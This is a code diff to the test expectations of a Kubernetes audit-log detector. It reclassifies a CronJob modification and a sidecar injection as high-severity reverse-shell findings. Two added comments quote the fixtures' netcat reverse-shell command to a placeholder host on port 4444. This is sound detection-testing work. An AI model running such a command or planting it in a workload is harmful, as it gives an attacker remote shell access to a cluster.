@@ -49,7 +49,8 @@ const EXPECTED: Record<string, { attacks: Outcome[]; routine: Outcome[] }> = {
   // Not on Sigma's default branch; the audit log sees a compiler only as an exec.
   'kubernetes_audit_compiler_execution_in_container.yml': { attacks: [EXEC], routine: [] },
   'kubernetes_audit_cronjob_modification.yml': {
-    attacks: Array(5).fill(WORKLOAD),
+    // The first CronJob runs `nc <host> 4444 -e /bin/sh`: was medium workload-change.
+    attacks: [rule('high', 'reverse-shell-command'), ...Array(4).fill(WORKLOAD)],
     routine: [['info', 'routine-controller-reconcile'], ['info', 'routine-controller-reconcile'], WORKLOAD],
   },
   'kubernetes_audit_deployment_deleted.yml': { attacks: [WORKLOAD, WORKLOAD], routine: [WORKLOAD] },
@@ -127,7 +128,11 @@ const EXPECTED: Record<string, { attacks: Outcome[]; routine: Outcome[] }> = {
     attacks: [SENSITIVE, SENSITIVE],
     routine: [['info', 'routine-controller-reconcile']],
   },
-  'kubernetes_audit_sidecar_injection.yml': { attacks: [WORKLOAD, rule('high', 'privileged-container')], routine: [WORKLOAD] },
+  // The injected log-shipper loops `nc <host> 4444 -e /bin/sh`: was medium workload-change.
+  'kubernetes_audit_sidecar_injection.yml': {
+    attacks: [rule('high', 'reverse-shell-command'), rule('high', 'privileged-container')],
+    routine: [WORKLOAD],
+  },
   'kubernetes_audit_unauthorized_unauthenticated_actions.yml': {
     attacks: [
       ['medium', 'request-denied-or-failed'],
